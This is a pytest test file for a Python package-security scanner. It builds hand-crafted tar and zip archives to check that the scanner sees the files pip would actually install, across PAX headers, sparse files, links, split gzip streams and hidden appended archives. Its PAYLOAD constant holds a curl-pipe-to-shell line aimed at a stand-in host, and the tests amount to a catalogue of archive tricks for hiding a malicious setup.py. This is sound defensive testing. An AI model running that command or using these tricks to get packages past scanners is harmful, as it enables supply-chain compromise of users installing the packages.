"""What pip writes must be what the engine scans: one small hand-built archive per class of issue 15.

Each test builds an archive byte by byte (``tests/archive_gen.py``), states what pip writes for it
(checked against ``tests/pip_oracle.py``, i.e. CPython's ``tarfile`` with the data filter and
``zipfile`` on the test Python, except where a newer Python differs: then the expectation is written
out), and asserts that the engine scanned those bytes under that name, or reported the distribution
incomplete. The differential suite (``tests/test_differential.py``) covers the same classes at random.
"""

from __future__ import annotations

import gzip
import random

import pytest
from dragonfly_hybrid import DistributionResult, Rules, Scanner

from tests.archive_gen import (
    base256,
    gnu_long,
    gzip_member,
    header,
    member,
    pad,
    pax,
    pax_record,
    sha256,
    tar_of,
    unicode_path_extra,
    wheel,
    zip_of,
)
from tests.pip_oracle import name_matches, pip_view

PAYLOAD = b"import os\nos.system('curl https://evil.example/x | sh')  # DFH-PAYLOAD\n"
PAYLOAD_BIG = PAYLOAD + b"#" * 700 + b"\n"  # longer than one block


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(Rules.compile({"all.yar": "rule any_file { condition: true }"}), threads=2)


def scan(scanner: Scanner, data: bytes, filename: str) -> DistributionResult:
    dist = scanner.scan_bytes(data, filename)
    assert not [i for i in dist.issues if i.kind == "internal-error"]
    return dist


def describe(dist: DistributionResult) -> str:
    files = ", ".join(f"{f.path} ({f.sha256[:12]})" for f in dist.files)
    issues = ", ".join(f"{i.kind}:{i.path}{'*' if i.unscanned else ''}" for i in dist.issues)
    return f"engine ({dist.format}, complete={dist.complete}) saw: {files or '-'}; issues: {issues or '-'}"


def assert_pip_writes(data: bytes, filename: str, name: str, content: bytes) -> None:
    """The oracle (the test Python) agrees that pip writes ``content`` under ``name``."""
    view = pip_view(data, filename)
    assert (name, sha256(content)) in view.files, f"pip's view: {view}"


def assert_scanned(dist: DistributionResult, name: str, content: bytes) -> None:
    """The engine scanned ``content`` under ``name`` (a nested ``...!/name`` counts), or is incomplete."""
    digest = sha256(content)
    seen = any(f.sha256 == digest and name_matches(name, f.path) for f in dist.files)
    assert seen or not dist.complete, f"{name} ({digest[:12]}) not scanned under that name; {describe(dist)}"


def check(
    scanner: Scanner, data: bytes, filename: str, name: str, content: bytes, *, pip: bool = True
) -> None:
    if pip:
        assert_pip_writes(data, filename, name, content)
    assert_scanned(scan(scanner, data, filename), name, content)


def targz(*parts: bytes) -> bytes:
    return gzip.compress(tar_of(*parts), mtime=0)


# --- 1. tar extension headers read differently ---------------------------------------------------------


@pytest.mark.parametrize("text", [" {n}", "{u}", "+{n}", "0{n}", "{n} "])
def test_pax_size_number_forms_cpython_int_accepts(scanner: Scanner, text: str) -> None:
    # PAX size=" N" / "1_0NN" / "+N": CPython's int() accepts them; the header's own size is 0, and the
    # data starts with an end marker, so a reader that rejects the record sees an empty member and the end.
    data = b"\x00" * 1024 + PAYLOAD_BIG
    n = len(data)
    value = text.format(n=n, u=f"{str(n)[0]}_{str(n)[1:]}")
    arc = targz(pax([("size", value)]), member("pkg-1.0/setup.py", data, size=0))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", data)


def test_global_pax_path_renames_every_later_member(scanner: Scanner) -> None:
    # A global header's path applies to every following member; the last one's content is what remains.
    arc = targz(
        pax([("path", "pkg-1.0/setup.py")], typeflag=b"g"),
        member("pkg-1.0/README.txt", b"readme\n"),
        member("pkg-1.0/data.txt", PAYLOAD),
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_global_pax_size_applies_to_later_members(scanner: Scanner) -> None:
    # A global size replaces the size of later members when their data is read (not where the next header is).
    data = b"\x00" * 1024 + PAYLOAD
    arc = targz(pax([("size", str(len(data)))], typeflag=b"g"), header("pkg-1.0/setup.py", 0) + pad(data))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", data)


def test_gnu_sparse_name_renames(scanner: Scanner) -> None:
    arc = targz(pax([("GNU.sparse.name", "pkg-1.0/setup.py")]), member("pkg-1.0/README.txt", PAYLOAD))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_gnu_sparse_realsize_sets_size(scanner: Scanner) -> None:
    data = b"\x00" * 1024 + PAYLOAD
    arc = targz(pax([("GNU.sparse.realsize", str(len(data)))]), member("pkg-1.0/setup.py", data, size=0))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", data)


def test_pax_sparse_0_1_map(scanner: Scanner) -> None:
    hole = 1000
    recs = [
        ("GNU.sparse.size", str(hole + len(PAYLOAD))),
        ("GNU.sparse.numblocks", "1"),
        ("GNU.sparse.map", f"{hole},{len(PAYLOAD)}"),
        ("GNU.sparse.name", "pkg-1.0/setup.py"),
    ]
    arc = targz(pax(recs), member("pkg-1.0/GNUSparseFile.0/setup.py", PAYLOAD))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", b"\x00" * hole + PAYLOAD)


def test_pax_sparse_0_0(scanner: Scanner) -> None:
    hole = 512
    recs = [
        ("GNU.sparse.size", str(hole + len(PAYLOAD))),
        ("GNU.sparse.numblocks", "1"),
        ("GNU.sparse.offset", str(hole)),
        ("GNU.sparse.numbytes", str(len(PAYLOAD))),
    ]
    arc = targz(pax(recs), member("pkg-1.0/setup.py", PAYLOAD))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", b"\x00" * hole + PAYLOAD)


def test_pax_sparse_1_0(scanner: Scanner) -> None:
    hole = 3000
    sparse_map = pad(b"1\n%d\n%d\n" % (hole, len(PAYLOAD)))
    recs = [
        ("GNU.sparse.major", "1"),
        ("GNU.sparse.minor", "0"),
        ("GNU.sparse.name", "pkg-1.0/setup.py"),
        ("GNU.sparse.realsize", str(hole + len(PAYLOAD))),
    ]
    arc = targz(pax(recs), member("pkg-1.0/GNUSparseFile.0/setup.py", sparse_map + PAYLOAD))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", b"\x00" * hole + PAYLOAD)


def test_old_gnu_sparse(scanner: Scanner) -> None:
    hole = 4096
    arc = targz(
        member(
            "pkg-1.0/setup.py",
            PAYLOAD,
            b"S",
            fmt="gnu",
            sparse=[(hole, len(PAYLOAD))],
            realsize=hole + len(PAYLOAD),
        )
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", b"\x00" * hole + PAYLOAD)


def test_pax_path_outside_gnu_long_name_wins(scanner: Scanner) -> None:
    # The outermost extension header wins: x(path) then L(name) then the header -> the PAX path.
    arc = targz(
        pax([("path", "pkg-1.0/setup.py")]),
        gnu_long("pkg-1.0/README.txt"),
        member("pkg-1.0/x.txt", PAYLOAD, fmt="gnu"),
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_gnu_long_name_outside_pax_path_wins(scanner: Scanner) -> None:
    arc = targz(
        gnu_long("pkg-1.0/setup.py"), pax([("path", "pkg-1.0/README.txt")]), member("pkg-1.0/x.txt", PAYLOAD)
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_nul_inside_gnu_long_name_cuts_it(scanner: Scanner) -> None:
    arc = targz(
        gnu_long(b"pkg-1.0/setup.py\x00pkg-1.0/README.txt"), member("pkg-1.0/x.txt", PAYLOAD, fmt="gnu")
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_gnu_long_name_in_v7_header(scanner: Scanner) -> None:
    # No ustar magic anywhere: CPython still honours the L header.
    long_name = "pkg-1.0/" + "d" * 120 + "/setup.py"
    arc = targz(gnu_long(long_name, fmt="v7"), member("pkg-1.0/short.txt", PAYLOAD, fmt="v7"))
    check(scanner, arc, "pkg-1.0.tar.gz", long_name, PAYLOAD)


def test_pax_header_in_v7_header(scanner: Scanner) -> None:
    arc = targz(pax([("path", "pkg-1.0/setup.py")], fmt="v7"), member("pkg-1.0/x.txt", PAYLOAD, fmt="v7"))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


@pytest.mark.parametrize("fmt", ["gnu", "v7"])
def test_prefix_field_outside_ustar(scanner: Scanner, fmt: str) -> None:
    # CPython joins the prefix field (offset 345) to the name for any header, whatever its magic.
    arc = targz(member("setup.py", PAYLOAD, fmt=fmt, prefix="pkg-1.0/sub"))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/sub/setup.py", PAYLOAD)


def test_pax_header_with_a_malformed_record(scanner: Scanner) -> None:
    # Version-dependent: before the CVE-2024-6232 fix (3.13.0, 3.12.6, 3.11.10, 3.10.15, 3.9.20) CPython
    # stops at the malformed record and applies the path before it; after it, the header ends the archive.
    # Every interpretation counts: the payload must be scanned as pkg-1.0/setup.py.
    recs = pax_record("path", "pkg-1.0/setup.py") + b"9 bogus\n\n"
    arc = targz(pax(recs), member("pkg-1.0/x.txt", PAYLOAD), member("pkg-1.0/setup.cfg", b"[metadata]\n"))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD, pip=False)


def test_base256_size(scanner: Scanner) -> None:
    arc = targz(member("pkg-1.0/setup.py", PAYLOAD, fmt="gnu", size_field=base256(len(PAYLOAD), 12)))
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


# --- 2. non-regular entries with a nonzero size ---------------------------------------------------------


@pytest.mark.parametrize(
    ("typeflag", "name", "link"),
    [
        (b"2", "pkg-1.0/link", "README.txt"),
        (b"5", "pkg-1.0/sub/", ""),
        (b"1", "pkg-1.0/hard", "pkg-1.0/README.txt"),
    ],
)
def test_data_of_a_non_regular_entry_is_the_next_member(
    scanner: Scanner, typeflag: bytes, name: str, link: str
) -> None:
    inner = member("pkg-1.0/setup.py", PAYLOAD)
    arc = targz(
        member("pkg-1.0/README.txt", b"readme\n"), header(name, len(inner), typeflag, linkname=link) + inner
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


# --- 3. links ---------------------------------------------------------------------------------------------


def test_hard_link_named_setup_py(scanner: Scanner) -> None:
    arc = targz(
        member("pkg-1.0/data.txt", PAYLOAD),
        member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/data.txt"),
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_symlink_named_setup_py(scanner: Scanner) -> None:
    arc = targz(
        member("pkg-1.0/data.txt", PAYLOAD), member("pkg-1.0/setup.py", typeflag=b"2", linkname="data.txt")
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_chain_of_links(scanner: Scanner) -> None:
    arc = targz(
        member("pkg-1.0/data.txt", PAYLOAD),
        member("pkg-1.0/b.txt", typeflag=b"2", linkname="data.txt"),
        member("pkg-1.0/c.txt", typeflag=b"1", linkname="pkg-1.0/b.txt"),
        member("pkg-1.0/setup.py", typeflag=b"2", linkname="c.txt"),
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


def test_member_written_through_a_directory_symlink(scanner: Scanner) -> None:
    # lib -> real; then lib/setup.py is written as real/setup.py.
    arc = targz(
        member("pkg-1.0/real/", typeflag=b"5"),
        member("pkg-1.0/lib", typeflag=b"2", linkname="real"),
        member("pkg-1.0/lib/setup.py", PAYLOAD),
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/real/setup.py", PAYLOAD)


def test_regular_member_written_through_a_file_symlink(scanner: Scanner) -> None:
    # setup.py -> data.txt, then a regular setup.py: CPython opens the path and writes through the link.
    arc = targz(
        member("pkg-1.0/data.txt", b"benign\n"),
        member("pkg-1.0/setup.py", typeflag=b"2", linkname="data.txt"),
        member("pkg-1.0/setup.py", PAYLOAD),
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/data.txt", PAYLOAD)


def test_hard_link_sees_a_later_rewrite_of_its_target(scanner: Scanner) -> None:
    # The link shares the target's inode: when data.txt is written again, setup.py holds the new bytes.
    arc = targz(
        member("pkg-1.0/data.txt", b"benign\n"),
        member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/data.txt"),
        member("pkg-1.0/data.txt", PAYLOAD),
    )
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)


# --- 4. compressed streams ---------------------------------------------------------------------------------


def _split_gzip(tar: bytes, cut: int, between: bytes) -> bytes:
    return gzip_member(tar[:cut]) + between + gzip_member(tar[cut:])


TAR_FOR_GZIP = tar_of(
    member("pkg-1.0/README.txt", b"readme\n" * 100), member("pkg-1.0/setup.py", PAYLOAD_BIG)
)


@pytest.mark.parametrize("cut", [100, 1100], ids=["inside-first-header", "inside-data"])
def test_zero_bytes_between_gzip_members(scanner: Scanner, cut: int) -> None:
    arc = _split_gzip(TAR_FOR_GZIP, cut, b"\x00" * 4096)
    check(scanner, arc, "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD_BIG)


@pytest.mark.parametrize("cut", [100, 1100], ids=["inside-first-header", "inside-data"])
def test_concatenated_gzip_members(scanner: Scanner, cut: int) -> None:
    check(scanner, _split_gzip(TAR_FOR_GZIP, cut, b""), "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD_BIG)


# --- 5. prefixed zips ----------------------------------------------------------------------------------


PREFIXES = {
    "shell": b'#!/bin/sh\nexec python3 "$0"\n',
    "gzip": gzip.compress(b"hello\n" * 20, mtime=0),
    "tar": tar_of(member("README.txt", b"readme\n")),
}


@pytest.mark.parametrize("prefix", list(PREFIXES))
@pytest.mark.parametrize("dir_first", [False, True], ids=["files", "dir-first"])
def test_bytes_before_a_wheel(scanner: Scanner, prefix: str, dir_first: bool) -> None:
    whl = wheel(random.Random(1), files=[("pkg/__init__.py", PAYLOAD)], dir_first=dir_first)
    check(scanner, PREFIXES[prefix] + whl, "pkg-1.0-py3-none-any.whl", "pkg/__init__.py", PAYLOAD)


def test_wheel_appended_to_an_sdist(scanner: Scanner) -> None:
    # pip checks zipfile.is_zipfile() on a .tar.gz too, and then unzips it.
    sdist = targz(member("pkg-1.0/setup.py", b"from setuptools import setup\nsetup()\n"))
    whl = wheel(random.Random(1), files=[("pkg/__init__.py", PAYLOAD)])
    check(scanner, sdist + whl, "pkg-1.0.tar.gz", "pkg/__init__.py", PAYLOAD)


def test_zip_before_a_wheel(scanner: Scanner) -> None:
    # zipfile reads the last end record: the wheel after a complete benign zip.
    first = zip_of([("README.txt", b"readme\n")])
    whl = wheel(random.Random(1), files=[("pkg/__init__.py", PAYLOAD)])
    check(scanner, first + whl, "pkg-1.0-py3-none-any.whl", "pkg/__init__.py", PAYLOAD)


# --- 6. zip names ---------------------------------------------------------------------------------------


def test_unicode_path_extra_field_names_both(scanner: Scanner) -> None:
    # CPython 3.12+ takes the name from 0x7075 when its CRC matches the header name; 3.11 keeps the raw
    # name: the content must be scanned under both names (or the result be incomplete).
    raw = b"pkg/data.txt"
    arc = zip_of(
        [("pkg/__init__.py", b""), (raw, PAYLOAD, {"extra": unicode_path_extra(raw, "pkg/setup.py")})]
    )
    dist = scan(scanner, arc, "pkg-1.0-py3-none-any.whl")
    assert_scanned(dist, "pkg/data.txt", PAYLOAD)
    assert_scanned(dist, "pkg/setup.py", PAYLOAD)


def test_duplicate_names_last_record_is_written(scanner: Scanner) -> None:
    arc = zip_of([("pkg/setup.py", b"# benign\n"), ("pkg/setup.py", PAYLOAD)])
    check(scanner, arc, "pkg-1.0-py3-none-any.whl", "pkg/setup.py", PAYLOAD)


def test_utf8_name_without_the_utf8_flag_is_read_as_cp437(scanner: Scanner) -> None:
    data = zip_of([(b"pkg/sXXtup.py", PAYLOAD)]).replace(b"pkg/sXXtup.py", "pkg/s\u00e9tup.py".encode())
    check(scanner, data, "pkg-1.0-py3-none-any.whl", "pkg/s\u251c\u2310tup.py", PAYLOAD)


# --- 7. hidden bytes ---------------------------------------------------------------------------------------


HIDDEN = gzip.compress(tar_of(member("hidden/setup.py", PAYLOAD)), mtime=0)


def test_archive_after_tar_end_marker_is_opened(scanner: Scanner) -> None:
    arc = gzip.compress(tar_of(member("pkg-1.0/README.txt", b"readme\n")) + HIDDEN, mtime=0)
    assert_scanned(scan(scanner, arc, "pkg-1.0.tar.gz"), "hidden/setup.py", PAYLOAD)


def test_archive_after_gzip_stream_is_opened(scanner: Scanner) -> None:
    # A second gzip member holding a tarball: pip's tar reader stopped at the first end marker.
    arc = targz(member("pkg-1.0/README.txt", b"readme\n")) + HIDDEN
    assert_scanned(scan(scanner, arc, "pkg-1.0.tar.gz"), "hidden/setup.py", PAYLOAD)


def test_archive_in_zip_comment_is_opened(scanner: Scanner) -> None:
    arc = zip_of([("pkg/__init__.py", b"")], comment=HIDDEN)
    assert_scanned(scan(scanner, arc, "pkg-1.0-py3-none-any.whl"), "hidden/setup.py", PAYLOAD)


def test_archive_in_gap_between_zip_entries_is_opened(scanner: Scanner) -> None:
    arc = zip_of([("pkg/__init__.py", b""), ("pkg/util.py", b"")], gaps={1: HIDDEN})
    assert_scanned(scan(scanner, arc, "pkg-1.0-py3-none-any.whl"), "hidden/setup.py", PAYLOAD)


def test_archive_after_zip_end_record_is_opened(scanner: Scanner) -> None:
    arc = zip_of([("pkg/__init__.py", b"")]) + HIDDEN
    assert_scanned(scan(scanner, arc, "pkg-1.0-py3-none-any.whl"), "hidden/setup.py", PAYLOAD)


# --- 8. bytes named like an archive that are not one ------------------------------------------------------


NOT_ARCHIVES = {
    "html-as-whl": (
        b"<!DOCTYPE html>\n<html><body>404 Not Found</body></html>\n",
        "pkg-1.0-py3-none-any.whl",
    ),
    "random-as-tar.gz": (random.Random(8).randbytes(3000), "pkg-1.0.tar.gz"),
    "text-as-zip": (PAYLOAD, "pkg-1.0.zip"),
    "text-as-tar": (PAYLOAD, "pkg-1.0.tar"),
}


@pytest.mark.parametrize("case", list(NOT_ARCHIVES))
def test_not_an_archive_is_never_complete(scanner: Scanner, case: str) -> None:
    data, filename = NOT_ARCHIVES[case]
    assert pip_view(data, filename).failed  # pip cannot unpack it
    dist = scan(scanner, data, filename)
    assert not dist.complete, describe(dist)


# --- baseline: plain archives pass today -------------------------------------------------------------------


def test_plain_sdist_and_wheel(scanner: Scanner) -> None:
    check(scanner, targz(member("pkg-1.0/setup.py", PAYLOAD)), "pkg-1.0.tar.gz", "pkg-1.0/setup.py", PAYLOAD)
    whl = wheel(random.Random(2), files=[("pkg/__init__.py", PAYLOAD)])
    check(scanner, whl, "pkg-1.0-py3-none-any.whl", "pkg/__init__.py", PAYLOAD)
